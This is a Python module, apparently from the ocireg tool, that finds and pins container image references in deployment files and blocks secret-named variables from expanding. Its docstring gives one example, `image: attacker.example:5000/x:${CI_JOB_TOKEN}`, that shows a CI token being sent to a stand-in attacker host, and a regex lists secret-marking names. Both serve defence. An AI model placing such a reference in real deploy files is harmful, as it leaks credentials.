"""Find image references in the files a deployment is made of (pure: no network, no environment of its own).

Kinds and where the references sit:

* ``compose`` — docker-compose and swarm stack files: ``services.<name>.image``;
* ``kubernetes`` — documents with ``apiVersion`` and ``kind``: every ``containers``, ``initContainers`` and
  ``ephemeralContainers`` list anywhere in the document (Pod, Deployment, StatefulSet, DaemonSet, ReplicaSet,
  Job, CronJob, ``List`` items and any custom resource that embeds a pod template);
* ``gitlab-ci`` — ``.gitlab-ci.yml`` (and included files): ``image`` and ``services`` at the top level, in
  ``default`` and in every job, in the string and the ``name:`` form;
* ``dockerfile`` — ``FROM`` (and ``COPY --from=IMAGE``) with global ``ARG`` defaults, skipping ``scratch`` and
  earlier stage names;
* ``helm`` — values files: any ``image:`` mapping with ``repository`` and ``tag`` and/or ``digest`` (and an
  optional ``registry``), as most charts lay them out.
* ``kustomize`` — ``kustomization.yaml``: each ``images:`` entry's effective image, ``newName`` (else
  ``name``) with ``newTag`` and/or ``digest``; ``pin`` writes into ``digest:`` (kustomize's own field for it).

YAML is read with ruamel.yaml's composer, which keeps the exact character offsets of every scalar; each
finding carries the span of the text to rewrite (:class:`Target`), so ``pin`` can edit values in place and
leave every other byte — comments, quoting, key order, indentation — as it was. A target is offered only when
the text at the span is exactly the parsed value (no escapes, no block scalar, no alias), so an edit can never
land anywhere else.

Variables (``$VAR``, ``${VAR}``, ``${VAR:-default}`` ...) are expanded from a lookup the caller passes in (the
CLI passes its environment; compose files also see their ``.env``; GitLab CI files their ``variables:``;
Dockerfiles their global ``ARG`` defaults). A reference that stays unresolved is reported as skipped with the
reason, never guessed.

A deploy file may come from a merge request, so expansion is guarded by a :class:`VariablePolicy`: a variable
whose name marks a secret (``*TOKEN*``, ``*PASSWORD*`` ...) or whose value is (or contains) a credential ocireg
holds is never expanded, unless the user allows it by name; such a reference is skipped with the reason and
nothing is sent. Otherwise ``image: attacker.example:5000/x:${CI_JOB_TOKEN}`` would send the job token to that
host in the request path (and print it). The rule is in SECURITY.md, section 14.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ocireg.errors import UsageError
from ocireg.text import escape

__all__ = [
    "KINDS",
    "MAX_FILE_SIZE",
    "Expansion",
    "FileProblem",
    "Finding",
    "Scan",
    "Target",
    "VariablePolicy",
    "discover",
    "expand_variables",
    "file_kind",
    "find_in_text",
    "names_secret",
    "scan_paths",
]

KINDS = ("compose", "kubernetes", "gitlab-ci", "dockerfile", "helm", "kustomize")
MAX_FILE_SIZE = 8 * 1024 * 1024
MAX_DEPTH = 64

Lookup = Callable[[str], "str | None"]

# --------------------------------------------------------------------------------------------------------------
# Results
# --------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """Where ``pin`` may write: ``text[start:end]`` is ``value``, of the given ``mode``.

    ``reference``: a whole image reference; ``tag``: a Helm ``image.tag`` (the digest is appended as
    ``tag@sha256:…``); ``digest``: a Helm ``image.digest`` (replaced by the digest; ``insert`` when it is empty
    and unquoted, so the digest is written after the key with a space).
    """

    start: int
    end: int
    value: str
    mode: str = "reference"
    insert_space: bool = False


@dataclass(frozen=True)
class Finding:
    """One image reference in one file."""

    path: str
    line: int
    column: int
    kind: str
    field: str
    raw: str
    """The reference as written (for Helm: assembled from registry/repository/tag/digest)."""
    text: str | None
    """After variable expansion; ``None`` when skipped."""
    skipped: str | None = None
    target: Target | None = None
    not_pinnable: str | None = None
    """Why ``pin`` cannot rewrite this one (variables, alias, block scalar...); ``None`` if it can."""

    @property
    def location(self) -> str:
        return f"{self.path}:{self.line}"


@dataclass(frozen=True)
class FileProblem:
    """A file that could not be read or parsed."""

    path: str
    line: int | None
    message: str


# Names that mark a secret (case-insensitive, anywhere in the name): what GitLab and most CI systems call their
# credentials — CI_JOB_TOKEN, CI_REGISTRY_PASSWORD, CI_JOB_JWT_V2, DOCKER_AUTH_CONFIG, *_API_KEY, ... .
_SECRET_NAME = re.compile(
    r"PASSWORD|PASSWD|TOKEN|SECRET|_AUTH|^AUTH_|KEY|CREDENTIAL|JWT|^DOCKER_AUTH_CONFIG$", re.IGNORECASE
)
# A held credential at least this long is also refused when a value merely contains it ("v1-<token>").
MIN_CONTAINED_SECRET = 8


def names_secret(name: str) -> bool:
    """Whether a variable name marks a secret (``*PASSWORD*``, ``*TOKEN*``, ``*SECRET*``, ``*_AUTH*``,
    ``*KEY*``, ``*CREDENTIAL*``, ``*JWT*`` ...), so that a deploy file may not expand it without permission."""
    return _SECRET_NAME.search(name) is not None


@dataclass(frozen=True)
class VariablePolicy:
    """Which variables a deploy file may expand.

    ``allow``: names the user allowed explicitly (they are expanded whatever their name or value);
    ``secrets``: credential values ocireg holds — a variable whose value equals one (or contains one of at
    least :data:`MIN_CONTAINED_SECRET` characters) is not expanded. The default policy refuses secret names
    and knows no values.
    """

    allow: frozenset[str] = frozenset()
    secrets: frozenset[str] = frozenset()

    def refusal(self, name: str, value: str | None) -> str | None:
        """Why ``name`` (with ``value``) must not be expanded, or ``None``. Never shows the value."""
        if name in self.allow:
            return None
        if names_secret(name):
            return (
                f"${name} names a secret and is not expanded in deploy files "
                f"(allow it with --allow-env {name} if it is not one)"
            )
        if value and any(
            value == secret or (len(secret) >= MIN_CONTAINED_SECRET and secret in value)
            for secret in self.secrets
        ):
            return (
                f"the value of ${name} is a credential ocireg holds and is not expanded in deploy files "
                f"(allow it with --allow-env {name})"
            )
        return None


@dataclass
class Scan:
    """Everything found under some paths."""

    findings: list[Finding] = field(default_factory=list)
    problems: list[FileProblem] = field(default_factory=list)
    files: list[str] = field(default_factory=list)
    texts: dict[str, str] = field(default_factory=dict)
    policy: VariablePolicy = field(default_factory=VariablePolicy)
    """The variable policy the files were read with (``pin`` reads its rewritten text with the same one)."""


# --------------------------------------------------------------------------------------------------------------
# Variables
# --------------------------------------------------------------------------------------------------------------

_NAME = r"[A-Za-z_][A-Za-z0-9_]*"
_PLAIN = re.compile(_NAME, re.ASCII)
_BRACED = re.compile(r"(" + _NAME + r")(?:(:?[-+?])(.*))?", re.ASCII | re.DOTALL)
MAX_EXPANSION_DEPTH = 4


@dataclass(frozen=True)
class Expansion:
    """The result of :func:`expand_variables`: the text, and what could not be resolved."""

    text: str
    missing: tuple[str, ...] = ()
    message: str | None = None
    had_variables: bool = False

    @property
    def ok(self) -> bool:
        return not self.missing and self.message is None


class _Expander:
    def __init__(self, lookup: Lookup, dollar_escape: bool) -> None:
        self.lookup = lookup
        self.dollar_escape = dollar_escape
        self.missing: list[str] = []
        self.messages: list[str] = []
        self.found = False

    def expand(self, text: str, depth: int) -> str:
        out: list[str] = []
        i, n = 0, len(text)
        while i < n:
            char = text[i]
            if char != "$" or i + 1 >= n:
                out.append(char)
                i += 1
                continue
            nxt = text[i + 1]
            if nxt == "$" and self.dollar_escape:
                out.append("$")
                i += 2
            elif nxt == "{":
                close = _closing_brace(text, i + 2)
                if close is None:  # unterminated: literal text
                    out.append(text[i:])
                    break
                out.append(self.braced(text[i + 2 : close], text[i : close + 1], depth))
                i = close + 1
            elif (match := _PLAIN.match(text, i + 1)) is not None:
                out.append(self.braced(match.group(0), match.group(0), depth, plain=True))
                i = match.end()
            else:
                out.append(char)
                i += 1
        return "".join(out)

    def braced(self, inner: str, original: str, depth: int, *, plain: bool = False) -> str:
        match = _BRACED.fullmatch(inner)
        if match is None:
            return original if not plain else "$" + original
        self.found = True
        name, op, word = match.group(1), match.group(2), match.group(3) or ""
        current = self.lookup(name)
        literal = original if not plain else "$" + original
        if op is None:
            if current is None:
                self.missing.append(name)
                return literal
            return current
        present = (current is not None and current != "") if op.startswith(":") else current is not None
        if op[-1] == "-":
            return current if present and current is not None else self.word(word, depth)
        if op[-1] == "+":
            return self.word(word, depth) if present else ""
        if present and current is not None:  # "?": required
            return current
        self.messages.append(f"{name}: {word}" if word else f"{name} is required")
        return literal

    def word(self, word: str, depth: int) -> str:
        return word if depth >= MAX_EXPANSION_DEPTH else self.expand(word, depth + 1)


def _closing_brace(text: str, start: int) -> int | None:
    level = 1
    for j in range(start, len(text)):
        if text[j] == "{":
            level += 1
        elif text[j] == "}":
            level -= 1
            if level == 0:
                return j
    return None


def expand_variables(text: str, lookup: Lookup, *, dollar_escape: bool = True) -> Expansion:
    """Expand ``$NAME``, ``${NAME}``, ``${NAME:-w}``, ``${NAME-w}``, ``${NAME:+w}``, ``${NAME+w}``,
    ``${NAME:?msg}``, ``${NAME?msg}`` and (with ``dollar_escape``) ``$$`` the way compose and POSIX shells do.

    ``lookup`` returns ``None`` for an unset name. A name that is unset and has no default is listed in
    ``missing`` and left as written; ``${NAME?msg}`` puts ``msg`` in ``message``. Default words are expanded
    too, a few levels deep at most.
    """
    expander = _Expander(lookup, dollar_escape)
    result = expander.expand(text, 0)
    return Expansion(
        result,
        tuple(dict.fromkeys(expander.missing)),
        "; ".join(expander.messages) or None,
        had_variables=expander.found,
    )


class _Refused(Exception):
    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


def _guarded(lookup: Lookup, policy: VariablePolicy) -> Lookup:
    def guarded(name: str) -> str | None:
        value = lookup(name)
        reason = policy.refusal(name, value)
        if reason is not None:
            raise _Refused(reason)
        return value

    return guarded


def _chain(*lookups: Lookup) -> Lookup:
    def lookup(name: str) -> str | None:
        for one in lookups:
            found = one(name)
            if found is not None:
                return found
        return None

    return lookup


def _from_mapping(values: Mapping[str, str]) -> Lookup:
    return values.get


def _resolve(
    raw: str, lookup: Lookup, policy: VariablePolicy, *, dollar_escape: bool = True
) -> tuple[str | None, str | None, bool]:
    """(expanded text or None, skip reason, had variables)."""
    if "{{" in raw or "}}" in raw:
        return None, "template expression ({{ ... }}) is not resolved by ocireg", True
    try:
        expansion = expand_variables(raw, _guarded(lookup, policy), dollar_escape=dollar_escape)
    except _Refused as refused:
        return None, refused.reason, True
    if expansion.message:
        return None, f"required variable not set ({expansion.message})", True
    if expansion.missing:
        names = ", ".join(f"${n}" for n in expansion.missing)
        return None, f"unresolved variable {names} (set it in the environment)", True
    text = expansion.text.strip()
    if not text:
        return None, "empty after variable expansion", expansion.had_variables
    return text, None, expansion.had_variables or "$" in raw


# --------------------------------------------------------------------------------------------------------------
# File discovery
# --------------------------------------------------------------------------------------------------------------

_SKIP_DIRS = frozenset(
    {
        ".git",
        ".hg",
        ".svn",
        "node_modules",
        ".venv",
        "venv",
        "__pycache__",
        ".tox",
        ".mypy_cache",
        ".terraform",
    }
)


def file_kind(path: str | Path) -> str | None:
    """``dockerfile``, ``gitlab-ci``, ``yaml`` or ``None`` (not a file ocireg looks into) by name alone."""
    name = Path(path).name
    lower = name.lower()
    if (
        lower in ("dockerfile", "containerfile")
        or lower.startswith(("dockerfile.", "containerfile."))
        or lower.endswith((".dockerfile", ".containerfile"))
    ):
        return "dockerfile"
    if lower.endswith(("gitlab-ci.yml", "gitlab-ci.yaml")):
        return "gitlab-ci"
    if lower.endswith((".yml", ".yaml")) or name == "Kustomization":  # kustomize's extension-less file name
        return "yaml"
    return None


def discover(paths: Sequence[str]) -> tuple[list[str], list[FileProblem]]:
    """Expand directories (recursively, no symlinked directories, no VCS/tool directories) into files.

    A file named explicitly is always taken (as YAML unless its name says Dockerfile); in directories only
    files whose name :func:`file_kind` knows. Order: as given, directory contents sorted.
    """
    files: list[str] = []
    problems: list[FileProblem] = []
    seen: set[str] = set()

    def add(path: str) -> None:
        key = os.path.realpath(path)
        if key not in seen:
            seen.add(key)
            files.append(path)

    for given in paths:
        if os.path.isdir(given):
            for root, dirs, names in os.walk(given, followlinks=False):
                dirs[:] = sorted(d for d in dirs if d not in _SKIP_DIRS)
                for name in sorted(names):
                    full = os.path.join(root, name)
                    if file_kind(full) is not None and os.path.isfile(full):
                        add(full)
        elif os.path.isfile(given):
            add(given)
        elif os.path.exists(given):
            problems.append(FileProblem(given, None, "not a regular file or directory"))
        else:
            problems.append(FileProblem(given, None, "no such file or directory"))
    return files, problems


def read_text(path: str) -> str:
    """Read a file as UTF-8 exactly (no newline translation), refusing huge or non-UTF-8 files."""
    try:
        with open(path, "rb") as handle:
            data = handle.read(MAX_FILE_SIZE + 1)
    except OSError as exc:
        raise UsageError(f"{escape(path)}: cannot read ({exc.strerror})") from exc
    if len(data) > MAX_FILE_SIZE:
        raise UsageError(f"{escape(path)}: larger than {MAX_FILE_SIZE // (1024 * 1024)} MiB; not scanned")
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError as exc:
        raise UsageError(f"{escape(path)}: not UTF-8 text (byte {exc.start})") from exc


def _dotenv(path: str) -> dict[str, str]:
    """The ``.env`` next to a compose file (compose reads it for variable substitution)."""
    env_path = os.path.join(os.path.dirname(path) or ".", ".env")
    values: dict[str, str] = {}
    try:
        with open(env_path, encoding="utf-8") as handle:
            content = handle.read(1024 * 1024)
    except (OSError, UnicodeDecodeError):
        return values
    for raw_line in content.splitlines():
        line = raw_line.strip()
        if not line or line.startswith("#") or "=" not in line:
            continue
        name, _, value = line.partition("=")
        name = name.removeprefix("export ").strip()
        value = value.strip()
        if len(value) >= 2 and value[0] == value[-1] and value[0] in "'\"":
            value = value[1:-1]
        if re.fullmatch(_NAME, name):
            values[name] = value
    return values


def scan_paths(
    paths: Sequence[str],
    env: Mapping[str, str],
    *,
    strict_files: bool = True,
    policy: VariablePolicy | None = None,
) -> Scan:
    """Find every image reference under ``paths``.

    Files that cannot be read or parsed become :class:`FileProblem`; with ``strict_files`` False, problems in
    files found by walking a directory are kept apart by the caller as warnings (see ``Scan.problems``).
    ``policy`` guards variable expansion (default: secret names refused, see :class:`VariablePolicy`).
    """
    policy = policy if policy is not None else VariablePolicy()
    scan = Scan(policy=policy)
    files, problems = discover(paths)
    scan.problems.extend(problems)
    for path in files:
        try:
            text = read_text(path)
        except UsageError as exc:
            scan.problems.append(FileProblem(path, None, str(exc)))
            continue
        scan.files.append(path)
        scan.texts[path] = text
        try:
            scan.findings.extend(find_in_text(path, text, env, policy=policy))
        except _ParseProblem as exc:
            scan.problems.append(FileProblem(path, exc.line, exc.message))
    return scan


class _ParseProblem(Exception):
    def __init__(self, message: str, line: int | None = None) -> None:
        super().__init__(message)
        self.message = message
        self.line = line


def find_in_text(
    path: str,
    text: str,
    env: Mapping[str, str],
    *,
    kind: str | None = None,
    policy: VariablePolicy | None = None,
) -> list[Finding]:
    """All image references in ``text`` (the content of ``path``), in file order.

    ``kind`` forces ``dockerfile``, ``gitlab-ci`` or ``yaml``; by default it comes from the file name.
    ``policy`` guards variable expansion (default: secret names refused, see :class:`VariablePolicy`).
    Raises ``_ParseProblem`` (internal) for YAML that does not parse.
    """
    kind = kind or file_kind(path) or "yaml"
    lookup = _from_mapping(env)
    policy = policy if policy is not None else VariablePolicy()
    if kind == "dockerfile":
        findings = list(_dockerfile(path, text, lookup, policy))
    else:
        findings = list(_yaml(path, text, lookup, policy, gitlab=kind == "gitlab-ci"))
    findings.sort(key=lambda f: (f.line, f.column))
    return findings


# --------------------------------------------------------------------------------------------------------------
# Positions
# --------------------------------------------------------------------------------------------------------------


class _Lines:
    """Offset → (line, column), 1-based, with YAML's line breaks (ruamel counts \\x85, \\u2028, \\u2029 too)."""

    def __init__(self, text: str) -> None:
        self.starts = [0]
        for match in re.finditer(r"\r\n|\r|\n|\x85|\u2028|\u2029", text):
            self.starts.append(match.end())

    def position(self, offset: int) -> tuple[int, int]:
        import bisect

        index = bisect.bisect_right(self.starts, offset) - 1
        return index + 1, offset - self.starts[index] + 1


# --------------------------------------------------------------------------------------------------------------
# YAML
# --------------------------------------------------------------------------------------------------------------

_STR = "tag:yaml.org,2002:str"
_NULL = "tag:yaml.org,2002:null"


def _node_type(node: Any) -> str:
    return type(node).__name__


def _is_map(node: Any) -> bool:
    return _node_type(node) == "MappingNode"


def _is_seq(node: Any) -> bool:
    return _node_type(node) == "SequenceNode"


def _is_scalar(node: Any) -> bool:
    return _node_type(node) == "ScalarNode"


def _tag(node: Any) -> str:
    tag = getattr(node, "tag", None)
    return str(getattr(tag, "value", tag) or "")


def _is_null(node: Any) -> bool:
    return _is_scalar(node) and (_tag(node) == _NULL or node.value == "")


def _items(node: Any, depth: int = 0, merged_from: set[int] | None = None) -> list[tuple[str, Any]]:
    """Key/value pairs of a mapping node with YAML merge keys (``<<``) applied; explicit keys win.

    Each merged mapping is read once per call (``merged_from``), so an alias bomb of merge keys stays linear.
    """
    if not _is_map(node) or depth > MAX_DEPTH:
        return []
    merged_from = set() if merged_from is None else merged_from
    explicit: list[tuple[str, Any]] = []
    merged: list[tuple[str, Any]] = []
    for key, value in node.value:
        if not _is_scalar(key):
            continue
        if key.value == "<<" and _tag(key) in ("tag:yaml.org,2002:merge", _STR, ""):
            sources = value.value if _is_seq(value) else [value]
            for source in sources:
                if id(source) not in merged_from:
                    merged_from.add(id(source))
                    merged.extend(_items(source, depth + 1, merged_from))
            continue
        explicit.append((str(key.value), value))
    names = {k for k, _ in explicit}
    out = list(explicit)
    for key, value in merged:
        if key not in names:
            names.add(key)
            out.append((key, value))
    return out


def _get(node: Any, key: str) -> Any | None:
    for name, value in _items(node):
        if name == key:
            return value
    return None


def _scalar_text(node: Any) -> str | None:
    """The scalar's value, or None for null / non-scalars."""
    if not _is_scalar(node) or _is_null(node):
        return None
    return str(node.value)


def _value_span(text: str, node: Any) -> tuple[int, int, str | None]:
    """(start, end, why-not) of the characters that hold the scalar's value, quotes excluded.

    ``why-not`` is set when the source text is not literally the value (escapes, folding, block scalar,
    multi-line plain scalar), in which case the node must not be edited.
    """
    start, end = node.start_mark.index, node.end_mark.index
    raw = text[start:end]
    # Skip node properties: an anchor (&name) and/or a tag (!tag / !!str), each followed by blanks.
    while raw[:1] in ("&", "!"):
        match = re.match(r"[&!][^\s]*\s+", raw)
        if match is None:
            break
        start += match.end()
        raw = text[start:end]
    style = getattr(node, "style", None)
    value = str(node.value)
    if style in ('"', "'"):
        if len(raw) >= 2 and raw[0] == style and raw[-1] == style and raw[1:-1] == value:
            return start + 1, end - 1, None
        return start, end, "the quoted value contains escapes or line breaks"
    if style in ("|", ">"):
        return start, end, "a block scalar (| or >) is not rewritten"
    if raw == value:
        return start, end, None
    return start, end, "the value spans several lines"


class _YamlDoc:
    """Walks one composed YAML document and yields findings."""

    def __init__(self, path: str, text: str, lines: _Lines, lookup: Lookup, policy: VariablePolicy) -> None:
        self.path = path
        self.policy = policy
        self.text = text
        self.lines = lines
        self.lookup = lookup
        self.seen: set[int] = set()
        self.walked: set[int] = set()  # nodes already walked: shared (aliased) nodes are walked once

    def finding(
        self,
        node: Any,
        kind: str,
        field_name: str,
        lookup: Lookup | None = None,
    ) -> Finding | None:
        raw = _scalar_text(node)
        if raw is None or id(node) in self.seen:
            return None
        self.seen.add(id(node))
        start, end, why_not = _value_span(self.text, node)
        line, column = self.lines.position(start)
        resolved, skipped, had_vars = _resolve(
            raw, lookup or self.lookup, self.policy, dollar_escape=kind != "kubernetes"
        )
        target = None
        not_pinnable = why_not
        if why_not is None:
            target = Target(start, end, raw, "reference")
        if had_vars and not_pinnable is None:
            not_pinnable = "contains variables; only literal references are pinned"
        if _tag(node) not in (_STR, ""):
            not_pinnable = not_pinnable or "not a plain string value"
        return Finding(
            self.path, line, column, kind, field_name, raw, resolved, skipped, target, not_pinnable
        )

    # -- compose ---------------------------------------------------------------------------------------------

    def compose(self, root: Any) -> Iterator[Finding]:
        services = _get(root, "services")
        for name, service in _items(services):
            image = _get(service, "image")
            if image is not None:
                found = self.finding(image, "compose", f"services.{name}.image")
                if found is not None:
                    yield found

    # -- kubernetes ------------------------------------------------------------------------------------------

    def kubernetes(self, root: Any) -> Iterator[Finding]:
        kind = _scalar_text(_get(root, "kind")) or "?"
        name = _scalar_text(_get(_get(root, "metadata"), "name") if _get(root, "metadata") else None)
        label = f"{kind}/{name}" if name else kind
        yield from self._pod_specs(root, "", label, 0)

    def _pod_specs(self, node: Any, path: str, label: str, depth: int) -> Iterator[Finding]:
        if depth > MAX_DEPTH or id(node) in self.walked:
            return
        self.walked.add(id(node))
        if _is_map(node):
            for key, value in _items(node):
                here = f"{path}.{key}" if path else key
                if key in ("containers", "initContainers", "ephemeralContainers") and _is_seq(value):
                    for i, container in enumerate(value.value):
                        image = _get(container, "image")
                        if image is not None:
                            cname = _scalar_text(_get(container, "name"))
                            where = f"{here}[{cname if cname else i}].image"
                            found = self.finding(image, "kubernetes", f"{label} {where}")
                            if found is not None:
                                yield found
                else:
                    yield from self._pod_specs(value, here, label, depth + 1)
        elif _is_seq(node):
            for i, item in enumerate(node.value):
                sub_label = label
                if label.startswith("List") and _is_map(item):
                    item_kind = _scalar_text(_get(item, "kind"))
                    meta = _get(item, "metadata")
                    item_name = _scalar_text(_get(meta, "name")) if meta is not None else None
                    if item_kind:
                        sub_label = f"{item_kind}/{item_name}" if item_name else item_kind
                yield from self._pod_specs(item, f"{path}[{i}]", sub_label, depth + 1)

    # -- gitlab ci -------------------------------------------------------------------------------------------

    _GITLAB_RESERVED = frozenset(
        {
            "stages",
            "variables",
            "include",
            "workflow",
            "cache",
            "before_script",
            "after_script",
            "types",
            "spec",
        }
    )

    def gitlab(self, root: Any) -> Iterator[Finding]:
        global_vars = self._variables(_get(root, "variables"))
        base = _chain(self.lookup, _from_mapping(global_vars))
        yield from self._gitlab_job(root, "", base, top=True)
        for name, job in _items(root):
            if name in self._GITLAB_RESERVED or name in ("image", "services") or not _is_map(job):
                continue
            job_vars = self._variables(_get(job, "variables"))
            lookup = _chain(self.lookup, _from_mapping(job_vars), _from_mapping(global_vars))
            yield from self._gitlab_job(job, f"{name}.", lookup, top=False)

    def _gitlab_job(self, job: Any, prefix: str, lookup: Lookup, *, top: bool) -> Iterator[Finding]:
        image = _get(job, "image")
        if image is not None:
            node = _get(image, "name") if _is_map(image) else image
            label = f"{prefix}image.name" if _is_map(image) else f"{prefix}image"
            if node is not None:
                found = self.finding(node, "gitlab-ci", label, lookup)
                if found is not None:
                    yield found
        services = _get(job, "services")
        if services is not None and _is_seq(services):
            for i, service in enumerate(services.value):
                node = _get(service, "name") if _is_map(service) else service
                label = f"{prefix}services[{i}]" + (".name" if _is_map(service) else "")
                if node is not None:
                    found = self.finding(node, "gitlab-ci", label, lookup)
                    if found is not None:
                        yield found

    def _variables(self, node: Any) -> dict[str, str]:
        values: dict[str, str] = {}
        for name, node_value in _items(node):
            value = _get(node_value, "value") if _is_map(node_value) else node_value
            text = _scalar_text(value) if value is not None else None
            if text is not None:
                values[name] = text
        return values

    # -- helm values -----------------------------------------------------------------------------------------

    def helm(self, node: Any, path: str = "", depth: int = 0) -> Iterator[Finding]:
        if depth > MAX_DEPTH or id(node) in self.walked:
            return
        self.walked.add(id(node))
        if _is_map(node):
            for key, value in _items(node):
                here = f"{path}.{key}" if path else key
                if key == "image" and _is_map(value) and _get(value, "repository") is not None:
                    found = self._helm_image(value, here)
                    if found is not None:
                        yield found
                else:
                    yield from self.helm(value, here, depth + 1)
        elif _is_seq(node):
            for i, item in enumerate(node.value):
                yield from self.helm(item, f"{path}[{i}]", depth + 1)

    def _helm_image(self, image: Any, here: str) -> Finding | None:
        repo_node = _get(image, "repository")
        if id(image) in self.seen or repo_node is None:
            return None
        self.seen.add(id(image))
        repository = _scalar_text(repo_node)
        registry_node = _get(image, "registry")
        tag_node = _get(image, "tag")
        digest_node = _get(image, "digest")
        registry = _scalar_text(registry_node) if registry_node is not None else None
        tag = _scalar_text(tag_node) if tag_node is not None else None
        digest = _scalar_text(digest_node) if digest_node is not None else None
        start, _, _ = _value_span(self.text, repo_node)
        line, column = self.lines.position(start)
        raw = (f"{registry}/" if registry else "") + (repository or "")
        if tag:
            raw += f":{tag}"
        if digest:
            raw += f"@{digest}" if "@" not in (tag or "") else ""
        field_name = f"{here}.repository"
        if not repository:
            return Finding(
                self.path, line, column, "helm", field_name, raw, None, "image.repository is empty"
            )
        if not tag and not digest:
            return Finding(
                self.path,
                line,
                column,
                "helm",
                field_name,
                raw,
                None,
                "image.tag is empty (the chart's appVersion is used); set it to check this image",
            )
        resolved, skipped, had_vars = _resolve(raw, self.lookup, self.policy)
        target: Target | None = None
        why_not: str | None = None
        if digest_node is not None and _is_scalar(digest_node):
            target, why_not = self._helm_target(image, digest_node, "digest")
        elif tag_node is not None and _is_scalar(tag_node):
            target, why_not = self._helm_target(image, tag_node, "tag")
        else:
            why_not = "no image.tag or image.digest value to write the digest into"
        if had_vars and why_not is None:
            why_not = "contains variables; only literal references are pinned"
        return Finding(self.path, line, column, "helm", field_name, raw, resolved, skipped, target, why_not)

    def _helm_target(self, image: Any, node: Any, mode: str) -> tuple[Target | None, str | None]:
        if _is_null(node) and node.start_mark.index == node.end_mark.index:
            # An empty value ("digest:" and nothing): its mark sits wherever the parser went next (often the
            # next line), so the insertion point is taken right after the key's colon instead.
            key = next((k for k, v in image.value if v is node and _is_scalar(k)), None)
            if mode != "digest" or key is None:
                return None, f"image.{mode} has no value"
            colon = key.end_mark.index
            while colon < len(self.text) and self.text[colon] in " \t":
                colon += 1
            if colon >= len(self.text) or self.text[colon] != ":":
                return None, "the digest field has no value and no plain 'digest:' key to write after"
            return Target(colon + 1, colon + 1, "", mode, insert_space=True), None
        start, end, why_not = _value_span(self.text, node)
        if why_not is not None:
            return None, why_not
        return Target(start, end, self.text[start:end], mode), None

    # -- kustomize -------------------------------------------------------------------------------------------

    def kustomize(self, root: Any) -> Iterator[Finding]:
        """``images:`` of a kustomization: the image kustomize will write into the resources.

        kustomize's image transformer puts ``newName`` (else ``name``) with ``:newTag``, or with ``@digest``
        when a digest is given (the digest wins over the tag). ``newTag`` and ``digest`` together are checked as
        ``name:tag@digest``: the digest is what gets deployed, the tag says what it should still be.
        """
        images = _get(root, "images")
        if images is None or not _is_seq(images):
            return
        for i, entry in enumerate(images.value):
            if _is_map(entry) and id(entry) not in self.seen:
                self.seen.add(id(entry))
                found = self._kustomize_image(entry, f"images[{i}]")
                if found is not None:
                    yield found

    def _kustomize_image(self, entry: Any, here: str) -> Finding | None:
        fields = {key: _get(entry, key) for key in ("name", "newName", "newTag", "digest")}
        texts = {key: _scalar_text(node) if node is not None else None for key, node in fields.items()}
        anchor = fields["newName"] or fields["name"]
        if anchor is None:
            return None
        start, _, _ = _value_span(self.text, anchor)
        line, column = self.lines.position(start)
        field_name = f"{here}.{'newName' if fields['newName'] is not None else 'name'}"
        name = texts["newName"] or texts["name"] or ""
        tag, digest = texts["newTag"], texts["digest"]
        raw = name + (f":{tag}" if tag else "") + (f"@{digest}" if digest else "")
        if not name:
            return Finding(
                self.path, line, column, "kustomize", field_name, raw, None, "the image name is empty"
            )
        if not tag and not digest:
            return Finding(
                self.path,
                line,
                column,
                "kustomize",
                field_name,
                raw,
                None,
                "no newTag or digest: the tag comes from the resources; check those files instead",
            )
        resolved, skipped, had_vars = _resolve(raw, self.lookup, self.policy)
        target: Target | None = None
        why_not: str | None
        if fields["digest"] is not None and _is_scalar(fields["digest"]):
            target, why_not = self._helm_target(entry, fields["digest"], "digest")
        else:
            why_not = "no digest: field to write into (add 'digest:' with no value to this image entry)"
        if had_vars and why_not is None:
            why_not = "contains variables; only literal references are pinned"
        return Finding(
            self.path, line, column, "kustomize", field_name, raw, resolved, skipped, target, why_not
        )


def _is_kustomization(path: str, root: Any) -> bool:
    if Path(path).name in ("kustomization.yaml", "kustomization.yml", "Kustomization"):
        return True
    kind, api = _get(root, "kind"), _get(root, "apiVersion")
    api_text = (_scalar_text(api) or "") if api is not None else "kustomize.config.k8s.io/"
    # Only kustomize's own API group: Flux also has a "Kustomization" kind (no top-level images:), and an
    # operator's custom resource called "Component" may embed pod templates the kubernetes walker must see.
    return (
        kind is not None
        and _scalar_text(kind) in ("Kustomization", "Component")
        and api_text.startswith("kustomize.config.k8s.io/")
    )


def _looks_like_gitlab(root: Any) -> bool:
    names = {name for name, _ in _items(root)}
    if names & {"stages", "include", "workflow"}:
        return True
    for _, value in _items(root):
        if _is_map(value) and {n for n, _ in _items(value)} & {"script", "trigger", "extends", "stage"}:
            return True
    return False


def _yaml(path: str, text: str, lookup: Lookup, policy: VariablePolicy, *, gitlab: bool) -> Iterator[Finding]:
    from ruamel.yaml import YAML
    from ruamel.yaml.error import MarkedYAMLError, YAMLError

    yaml = YAML(typ="rt", pure=True)
    lines = _Lines(text)
    try:
        documents = list(yaml.compose_all(text))
    except MarkedYAMLError as exc:
        mark = exc.problem_mark or exc.context_mark
        line = mark.line + 1 if mark is not None else None
        problem = exc.problem or exc.context or "invalid YAML"
        raise _ParseProblem(f"not valid YAML: {problem}", line) from None
    except (YAMLError, RecursionError, ValueError) as exc:
        raise _ParseProblem(f"not valid YAML: {type(exc).__name__}") from None
    compose_lookup: Lookup | None = None
    for root in documents:
        if root is None or not _is_map(root):
            continue
        walker = _YamlDoc(path, text, lines, lookup, policy)
        names = {name for name, _ in _items(root)}
        if gitlab:
            yield from walker.gitlab(root)
        elif _is_kustomization(path, root):
            yield from walker.kustomize(root)
        elif "apiVersion" in names and "kind" in names:
            yield from walker.kubernetes(root)
        elif _is_map(_get(root, "services")) and all(
            _is_map(service) or _is_null(service) for _, service in _items(_get(root, "services"))
        ):
            if compose_lookup is None:
                compose_lookup = _chain(lookup, _from_mapping(_dotenv(path)))
            walker.lookup = compose_lookup
            yield from walker.compose(root)
        elif _looks_like_gitlab(root):
            yield from walker.gitlab(root)
        else:
            yield from walker.helm(root)


# --------------------------------------------------------------------------------------------------------------
# Dockerfile
# --------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Word:
    text: str
    start: int  # file offset of the first character
    end: int  # file offset after the last character
    contiguous: bool  # the word's characters are contiguous in the file (no continuation inside)


